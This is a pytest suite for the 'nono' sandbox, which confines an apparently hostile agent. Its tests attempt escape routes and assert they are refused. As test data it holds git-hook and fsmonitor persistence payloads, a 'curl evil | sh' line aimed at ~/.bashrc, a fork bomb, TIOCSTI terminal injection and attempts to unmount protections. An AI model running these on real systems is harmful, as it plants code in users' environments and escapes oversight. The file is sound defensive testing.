"""The sandbox against a hostile agent: each way out found by trying, driven as the attack was.

Every test runs a real sandboxed child and asserts the kernel refused, and, where it makes
sense, a control showing the same action works outside the sandbox (or for what was granted).
"""

from __future__ import annotations

import contextlib
import os
import pty
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

CONNECT = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
    print("connected")
except OSError as e:
    print("refused", e.errno)
"""


class Listener:
    """A host process's Unix socket server that records whether anyone reached it."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.reached = False
        self.stop = False
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.reached = True
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()
        with contextlib.suppress(OSError):
            self.path.unlink()


@pytest.fixture
def listener():
    made: list[Listener] = []

    def make(path: Path) -> Listener:
        path.parent.mkdir(parents=True, exist_ok=True)
        made.append(Listener(path))
        return made[-1]

    yield make
    for one in made:
        one.close()


def connect_from_outside(path: Path) -> bool:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(str(path))
        return True
    finally:
        s.close()


# ------------------------------------------------------------ pathname Unix sockets


@pytest.mark.parametrize("where", ["workspace", "home", "host_tmp"])
def test_host_unix_sockets_cannot_be_reached(nono, workspace, home, listener, where):
    places = {
        "workspace": workspace / "agent.sock",
        "home": home / ".gnupg-like" / "S.agent",
        "host_tmp": Path("/tmp") / f"nono-test-{os.getpid()}-{where}" / "default",
    }
    server = listener(places[where])
    try:
        assert connect_from_outside(server.path)  # control: the socket works
        deadline = time.monotonic() + 5
        while not server.reached and time.monotonic() < deadline:
            time.sleep(0.02)
        server.reached = False
        r = nono("run", "--allow-cwd", "--block-net", "--", "python3", "-c", CONNECT,
                 str(server.path))  # fmt: skip
        assert r.returncode == 0, r.stderr
        assert r.stdout.startswith("refused"), r.stdout
        time.sleep(0.3)
        assert not server.reached
    finally:
        if where == "host_tmp":
            with contextlib.suppress(OSError):
                server.path.unlink()
                server.path.parent.rmdir()


def test_a_socket_named_by_flag_can_be_reached(nono, workspace, listener):
    server = listener(workspace / "docker.sock")
    r = nono("run", "--allow-cwd", "--allow-unix-socket", str(server.path), "--",
             "python3", "-c", CONNECT, str(server.path))  # fmt: skip
    assert r.stdout.strip() == "connected", r.stderr
    time.sleep(0.3)
    assert server.reached


def test_sockets_the_sandbox_creates_work_inside_it(nono):
    script = """
import socket, os
a = socket.socket(socket.AF_UNIX); a.bind("/tmp/own.sock"); a.listen(1)
b = socket.socket(socket.AF_UNIX); b.connect("/tmp/own.sock")
print("ok")
"""
    r = nono("run", "--", "python3", "-c", script)
    assert r.stdout.strip() == "ok", r.stderr


@pytest.mark.parametrize("temp", ["/tmp", "/var/tmp"])
def test_the_host_tmp_is_not_the_sandbox_tmp(nono, temp):
    marker = Path(temp) / f"nono-host-{os.getpid()}"
    marker.write_text("host\n")
    try:
        mine = Path(temp) / f"nono-agent-{os.getpid()}"
        r = nono(
            "run", "--", "sh", "-c", f"ls {marker}; rm -f {marker}; echo x > {mine} && cat {mine}"
        )
        assert "No such file" in r.stderr
        assert r.stdout == "x\n"  # a writable temp directory of its own
        assert marker.read_text() == "host\n"  # the agent could neither see nor delete it
        assert not mine.exists()
    finally:
        marker.unlink()


# ------------------------------------------------------------ terminals


def test_tiocsti_from_a_direct_run_types_nothing_into_the_callers_terminal(nono, workspace):
    """nono run ... | cat keeps the person's terminal on stdin; TIOCSTI must not reach it."""
    master, slave = pty.openpty()
    script = """
import fcntl, os, termios
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
    print("typed")
except OSError as e:
    print("refused", e.errno)
try:
    os.open("/dev/tty", os.O_RDWR)
    print("has a controlling terminal")
except OSError as e:
    print("no controlling terminal", e.errno)
print("own session", os.getsid(0) == os.getpid())
"""
    try:
        r = subprocess.run([sys.executable, "-m", "nono", "run", "--", "python3", "-c", script],
                           stdin=slave, capture_output=True, text=True, cwd=workspace,
                           timeout=60)  # fmt: skip
        lines = r.stdout.splitlines()
        assert lines[0] == "refused 1", r.stderr  # EPERM
        assert lines[1].startswith("no controlling terminal")
        assert lines[2] == "own session True"
        os.set_blocking(master, False)
        with pytest.raises(BlockingIOError):
            os.read(master, 100)  # nothing echoed: nothing was typed
    finally:
        os.close(master)
        os.close(slave)


def test_tiocsti_is_refused_by_seccomp_even_on_its_own_terminal(nono):
    script = """
import fcntl, os, termios
m, s = os.openpty()
try:
    fcntl.ioctl(s, termios.TIOCSTI, b"x")
    print("typed")
except OSError as e:
    print("refused", e.errno)
"""
    r = nono("run", "--", "python3", "-c", script)
    assert r.stdout.strip() == "refused 1", r.stderr


def test_another_terminal_cannot_be_opened_but_own_ptys_can(nono):
    master, slave = pty.openpty()
    name = os.ttyname(slave)
    script = f"""
import os
try:
    os.open({name!r}, os.O_RDWR)
    print("opened")
except OSError as e:
    print("refused", e.errno)
m, s = os.openpty()
os.write(m, b"hi\\n")
print("own pty", os.read(s, 10))
"""
    try:
        r = nono("run", "--", "python3", "-c", script)
        lines = r.stdout.splitlines()
        assert lines[0].startswith("refused"), r.stdout + r.stderr
        assert lines[1] == "own pty b'hi\\n'"
    finally:
        os.close(master)
        os.close(slave)


# ------------------------------------------------------------ persistence outside


@pytest.fixture
def repo(workspace: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    return workspace


@pytest.mark.parametrize(
    "attack",
    [
        "echo 'touch /tmp/pwned' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "git config alias.st '!touch /tmp/pwned'",
        "mv .git .git-old && git init -q .",
        "rm -rf .git/hooks",
    ],
)
def test_the_agent_cannot_plant_code_for_the_users_next_git_command(nono, repo, attack):
    before = (repo / ".git" / "config").read_bytes()
    r = nono("run", "--allow-cwd", "--", "sh", "-c", attack)
    assert r.returncode != 0
    assert "Read-only file system" in r.stderr or "busy" in r.stderr, r.stderr
    assert (repo / ".git" / "config").read_bytes() == before
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert (repo / ".git" / "hooks").is_dir()


def test_the_workspace_itself_stays_writable_with_git_protected(nono, repo):
    r = nono("run", "--allow-cwd", "--", "sh", "-c",
             "echo new > file.txt && git add file.txt && git -c user.name=a -c user.email=a@b "
             "commit -qm first && git log --oneline | wc -l")  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "1"


def _nono_file(which: str) -> Path:
    import nono as package
    from nono.sandbox.profile import builtin_dir

    if which == "code":
        return Path(package.__file__).resolve()
    # In a checkout (pip install -e), profiles/ lies beside the package, not in it.
    return builtin_dir().resolve() / "default.yaml"


@pytest.mark.parametrize("which", ["code", "profiles"])
def test_nonos_own_code_and_profiles_are_read_only_inside_a_writable_grant(nono, which):
    target = _nono_file(which)
    if not os.access(target.parent, os.W_OK):
        pytest.skip(f"{target.parent} is not writable by this user anyway")
    before = target.read_bytes()
    r = nono("run", "--allow", str(target.parent.parent), "--", "sh", "-c",
             f"echo '# weakened' >> {target}")  # fmt: skip
    assert r.returncode != 0
    assert "Read-only file system" in r.stderr
    assert target.read_bytes() == before


# ------------------------------------------------------------ other processes


@pytest.fixture
def victim():
    proc = subprocess.Popen(["sleep", "120", "--api-token=SECRET-TOKEN"][:2])
    yield proc
    proc.kill()
    proc.wait()


def test_limits_of_outside_processes_cannot_be_changed(nono, victim):
    r = nono("run", "--", "prlimit", f"--pid={victim.pid}", "--nofile=5:5")
    assert r.returncode != 0
    assert "No such process" in r.stderr
    with open(f"/proc/{victim.pid}/limits") as f:
        assert "Max open files            5 " not in f.read()
    # Control: the same command works on the sandbox's own process.
    r = nono("run", "--", "sh", "-c", "prlimit --pid=$$ --nofile=64:64 && ulimit -n")
    assert r.stdout.strip() == "64", r.stderr


def test_priority_of_all_the_users_processes_cannot_be_changed(nono, victim):
    before = os.getpriority(os.PRIO_PROCESS, victim.pid)
    script = """
import os
try:
    os.setpriority(os.PRIO_USER, 0, 19)
    print("changed")
except OSError as e:
    print("refused", e.errno)
os.setpriority(os.PRIO_PROCESS, 0, 19)
print("own", os.getpriority(os.PRIO_PROCESS, 0))
"""
    r = nono("run", "--", "python3", "-c", script)
    assert r.stdout.splitlines() == ["refused 1", "own 19"], r.stderr
    assert os.getpriority(os.PRIO_PROCESS, victim.pid) == before


def test_other_processes_are_invisible(nono):
    secret = subprocess.Popen(["sleep", "120"], env={"PATH": os.environ["PATH"]})
    try:
        assert Path(f"/proc/{secret.pid}/cmdline").exists()  # control
        r = nono("run", "--", "sh", "-c",
                 f"cat /proc/{secret.pid}/cmdline; ls /proc | grep -c '^[0-9]'")  # fmt: skip
        assert "No such file" in r.stderr
        # sh, ls, grep and the sandbox's init: nothing of the host.
        assert int(r.stdout.split()[-1]) <= 5
    finally:
        secret.kill()
        secret.wait()


def test_sysv_ipc_and_dev_shm_are_not_shared(nono):
    out = subprocess.run(["ipcmk", "-M", "4096"], capture_output=True, text=True)
    if out.returncode != 0:
        pytest.skip(f"ipcmk cannot make a segment here: {out.stderr.strip()}")
    shmid = out.stdout.split()[-1]
    shm = Path("/dev/shm") / f"nono-host-{os.getpid()}"
    shm.write_text("host secret\n")
    try:
        r = nono("run", "--", "sh", "-c", f"ipcs -m; cat {shm}")
        assert shmid not in r.stdout
        assert "host secret" not in r.stdout
        assert "No such file" in r.stderr
    finally:
        subprocess.run(["ipcrm", "-m", shmid])
        shm.unlink()


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                if marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
    return found


def test_daemons_end_with_a_direct_run(nono):
    marker = f"{300 + os.getpid() % 100}.{os.getpid()}"
    r = nono("run", "--", "sh", "-c", f"setsid sleep {marker} & nohup sleep {marker} & echo ok")
    assert r.stdout.strip() == "ok", r.stderr
    deadline = time.monotonic() + 5
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_with(marker) == []


def test_daemons_end_with_a_stopped_session(nono):
    marker = f"{400 + os.getpid() % 100}.{os.getpid()}"
    r = nono("run", "--detached", "--allow-cwd", "--", "sh", "-c",
             f"setsid sleep {marker} & sleep 600")  # fmt: skip
    assert r.returncode == 0, r.stderr
    sid = r.stdout.split()[0]
    deadline = time.monotonic() + 5
    while not _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_with(marker), "the daemon never started"
    assert nono("stop", sid, "--force").returncode == 0
    deadline = time.monotonic() + 5
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_with(marker) == []


# ------------------------------------------------------------ metadata and descriptors


def test_metadata_outside_grants_cannot_change(nono, home, workspace):
    key = home / ".ssh" / "id_ed25519"
    key.chmod(0o600)
    state = Path(os.environ["XDG_STATE_HOME"])
    state.mkdir(exist_ok=True)
    state.chmod(0o700)
    before = key.stat()
    r = nono("run", "--allow-cwd", "--", "python3", "-c", f"""
import os
for what, call in [
    ("chmod key", lambda: os.chmod({str(key)!r}, 0o644)),
    ("chmod state", lambda: os.chmod({str(state)!r}, 0o755)),
    ("utime", lambda: os.utime({str(key)!r}, (0, 0))),
    ("setxattr", lambda: os.setxattr({str(key)!r}, "user.x", b"1")),
    ("workspace chmod", lambda: os.chmod("README.md", 0o600)),
]:
    try:
        call()
        print(what, "done")
    except OSError as e:
        print(what, "refused", e.errno)
""")  # fmt: skip
    lines = r.stdout.splitlines()
    refused = [f"{what} refused 30" for what in ("chmod key", "chmod state", "utime", "setxattr")]
    assert lines[:4] == refused, r.stderr  # 30: EROFS
    assert lines[4] == "workspace chmod done"  # control: inside the grant
    after = key.stat()
    assert stat.S_IMODE(after.st_mode) == 0o600 and after.st_mtime_ns == before.st_mtime_ns
    assert stat.S_IMODE(state.stat().st_mode) == 0o700


def test_inherited_descriptors_do_not_reach_the_child(workspace, home):
    rc = home / ".bashrc"
    # As the attack was: `exec 7>>~/.bashrc; nono run ...` in the person's shell.
    caller = (f'exec 7>>"{rc}"; exec "{sys.executable}" -m nono run -- '
              "sh -c \"echo 'curl evil | sh' >&7\"")  # fmt: skip
    r = subprocess.run(["sh", "-c", caller], cwd=workspace, capture_output=True, text=True,
                       stdin=subprocess.DEVNULL, timeout=60)  # fmt: skip
    assert r.returncode != 0
    assert "Bad file descriptor" in r.stderr or "Bad fd" in r.stderr, r.stderr
    assert rc.read_text() == "# rc\n"


def test_a_killed_direct_run_leaves_nothing_behind(workspace, home):
    marker = f"{500 + os.getpid() % 100}.{os.getpid()}"
    proc = subprocess.Popen(
        [sys.executable, "-m", "nono", "run", "--", "sh", "-c", f"sleep {marker}"],
        cwd=workspace, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    )  # fmt: skip
    deadline = time.monotonic() + 10
    while not _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 5
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_with(marker) == []


# ------------------------------------------------------------ process count

FORK_BOMB = """
import os, time
n = 0
try:
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        n += 1
except OSError as e:
    print("stopped", n, e.errno)
else:
    print("forked", n)
"""


def test_a_fork_bomb_stops_at_the_sandboxs_bound(workspace, home):
    # Root ignores RLIMIT_NPROC (1,500 background processes were started): root's bound is a
    # pids cgroup, an ordinary user's an RLIMIT_NPROC counted in the sandbox's namespace.
    proc = subprocess.Popen(
        [sys.executable, "-m", "nono", "run", "--max-processes", "40", "--",
         "python3", "-c", FORK_BOMB],
        cwd=workspace, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    out, err = proc.communicate(timeout=60)
    if "no writable pids cgroup" in err:
        pytest.skip("root without a writable pids cgroup: nono refuses (tested in test_plan)")
    words = out.split()
    assert words[0] == "stopped", out + err
    assert int(words[1]) < 40 and words[2] == "11"  # EAGAIN
    # The run's cgroup (named after nono's process) is gone with it.
    assert not list(Path("/sys/fs/cgroup").glob(f"**/nono-{proc.pid}"))


def test_the_default_profile_bounds_processes(nono):
    r = nono("run", "--dry-run", "--", "true")
    assert "processes: at most 4096" in r.stdout, r.stdout + r.stderr


def test_an_ordinary_user_is_bounded_without_touching_their_other_processes(nono):
    # Counted per user namespace: the person's own processes outside do not use up the bound.
    if os.getuid() == 0:
        pytest.skip("an ordinary user's bound (root's is a cgroup)")
    r = nono("run", "--max-processes", "40", "--", "python3", "-c", FORK_BOMB.replace("200", "20"))
    assert r.stdout.split()[:2] == ["forked", "20"], r.stdout + r.stderr


def test_a_profile_names_the_sockets_its_agent_needs(nono, workspace, listener):
    server = listener(workspace / "agent-ipc.sock")
    profiles = Path(os.environ["XDG_CONFIG_HOME"]) / "nono" / "profiles"
    profiles.mkdir(parents=True)
    (profiles / "with-socket.yaml").write_text(
        "extends: default\nfilesystem:\n  unix_sockets: [$WORKDIR/agent-ipc.sock]\n"
    )
    r = nono("run", "--profile", "with-socket", "--allow-cwd", "--", "python3", "-c", CONNECT,
             str(server.path))  # fmt: skip
    assert r.stdout.strip() == "connected", r.stderr
    dry = nono("run", "--profile", "with-socket", "--dry-run", "--", "true")
    assert f"unix socket allowed: {server.path}" in dry.stdout


def test_allow_unix_socket_refuses_what_is_not_a_socket(nono, workspace):
    r = nono("run", "--allow-unix-socket", "README.md", "--", "true")
    assert r.returncode == 1
    assert "not a Unix socket" in r.stderr


def test_ctrl_c_reaches_a_direct_run_in_its_own_session(workspace, home):
    """The child is never in the person's terminal session, so nono passes ^C on itself."""
    import pexpect

    # stdout to a file: a direct run; ^C goes to the terminal's foreground group, nono's.
    script = "trap 'echo got-int; exit 3' INT; echo ready >&2; sleep 30 & wait"
    command = f'{sys.executable} -m nono run -- sh -c "{script}" > out.txt; echo rc=$?'
    child = pexpect.spawn("bash", ["--norc", "--noprofile", "-c", command], cwd=str(workspace),
                          env={**os.environ, "TERM": "xterm"}, timeout=20)  # fmt: skip
    try:
        child.expect("ready")
        child.sendintr()
        child.expect(r"rc=(\d+)")
        assert child.match.group(1) == b"3"
    finally:
        child.close(force=True)
    assert (workspace / "out.txt").read_text() == "got-int\n"


def test_git_hooks_are_writable_only_when_asked_for(nono, repo):
    hook = ".git/hooks/pre-commit"
    r = nono(
        "run", "--allow-cwd", "--allow-git-hooks", "--", "sh", "-c", f"echo '#!/bin/sh' > {hook}"
    )
    assert r.returncode == 0, r.stderr
    assert (repo / hook).read_text() == "#!/bin/sh\n"
    dry = nono("run", "--allow-cwd", "--dry-run", "--", "true")
    assert f"ro {repo}/.git/hooks  (git hooks)" in dry.stdout


def test_why_says_git_hooks_are_read_only_and_how_to_allow_them(nono, repo):
    r = nono("why", "--allow-cwd", "--path", ".git/hooks/pre-commit", "--op", "write")
    assert r.returncode == 1
    assert "read-only in the sandbox's view: git hooks" in r.stdout
    assert "--allow-git-hooks" in r.stdout


def test_a_repository_without_hooks_gets_a_read_only_hooks_directory(nono, repo):
    import shutil

    shutil.rmtree(repo / ".git" / "hooks")
    dry = nono("run", "--allow-cwd", "--dry-run", "--", "true")
    assert not (repo / ".git" / "hooks").exists()  # a dry run changes nothing
    assert dry.returncode == 0
    r = nono("run", "--allow-cwd", "--", "sh", "-c", "echo evil > .git/hooks/post-checkout")
    assert "Read-only file system" in r.stderr
    assert list((repo / ".git" / "hooks").iterdir()) == []


def test_protections_win_over_a_grant_of_the_same_path(nono, repo):
    r = nono("run", "--allow-cwd", "--allow", ".git/hooks", "--", "sh", "-c",
             "echo evil > .git/hooks/post-checkout")  # fmt: skip
    assert "Read-only file system" in r.stderr
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()


def test_a_grant_swapped_for_a_symlink_before_the_view_is_built_is_refused(home, workspace):
    """Another process that can write above a grant swaps it for a symlink to /etc between
    the policy (whose Landlock rules name the real directory) and the mounts."""
    from nono.sandbox.build import RunOptions, build_policy
    from nono.sandbox.launcher import ChildSetupFailed, prepare, spawn

    target = workspace / "build"
    target.mkdir()
    policy = build_policy(RunOptions(allow=(str(target),)), dict(os.environ), str(workspace))
    prepared = prepare(policy, ["true"], dict(os.environ))
    target.rename(workspace / "build-real")
    target.symlink_to("/etc")
    try:
        with pytest.raises(ChildSetupFailed, match="replaced"):
            spawn(prepared)
    finally:
        prepared.close()


# ------------------------------------------------------------ the view's own grants, attacked


def test_a_read_grant_beneath_the_private_tmp_stays_read_only(nono):
    # Landlock grants add up along a path: under the private /tmp (read+write) only the
    # read-only mount keeps a host directory granted read-only from being changed.
    host = Path("/tmp") / f"nono-ro-{os.getpid()}"
    host.mkdir()
    (host / "f").write_text("host\n")
    try:
        f = host / "f"
        r = nono("run", "--read", str(host), "--", "sh", "-c",
                 f"cat {f}; echo x > {f}; chmod 777 {f}; touch {host}/new")  # fmt: skip
        assert r.stdout == "host\n"
        assert r.stderr.count("Read-only file system") == 3, r.stderr
        assert (host / "f").read_text() == "host\n" and not (host / "new").exists()
        assert stat.S_IMODE((host / "f").stat().st_mode) != 0o777
    finally:
        for p in host.iterdir():
            p.unlink()
        host.rmdir()


def test_an_ungranted_working_directory_in_tmp_shows_nothing_of_the_host(nono):
    host = Path("/tmp") / f"nono-cwd-{os.getpid()}"
    host.mkdir()
    (host / "secret.txt").write_text("host\n")
    try:
        r = nono("run", "--", "sh", "-c", "ls -A; cat secret.txt", cwd=host)
        assert r.stdout == ""
        assert "No such file" in r.stderr
    finally:
        (host / "secret.txt").unlink()
        host.rmdir()


def test_a_nested_user_namespace_cannot_unmount_a_protection(nono, repo):
    # The agent may make namespaces of its own (agents' own sandboxes do), where it holds every
    # capability; Landlock and seccomp still refuse every mount and unmount.
    # (-Um without -r: Landlock also refuses writing the new namespace's uid_map.)
    r = nono("run", "--allow-cwd", "--", "unshare", "-Um", "sh", "-c",
             "umount -l .git/hooks || umount .git/hooks; "
             "mount -t tmpfs none .git/hooks; echo evil > .git/hooks/post-checkout")  # fmt: skip
    assert r.returncode != 0
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "Operation not permitted" in r.stderr or "Read-only" in r.stderr, r.stderr


def test_the_fresh_proc_is_read_only_to_the_child_even_as_root(nono):
    r = nono("run", "--", "sh", "-c", "echo 1 > /proc/sys/vm/drop_caches")
    assert r.returncode != 0
    assert "Permission denied" in r.stderr or "Read-only" in r.stderr, r.stderr
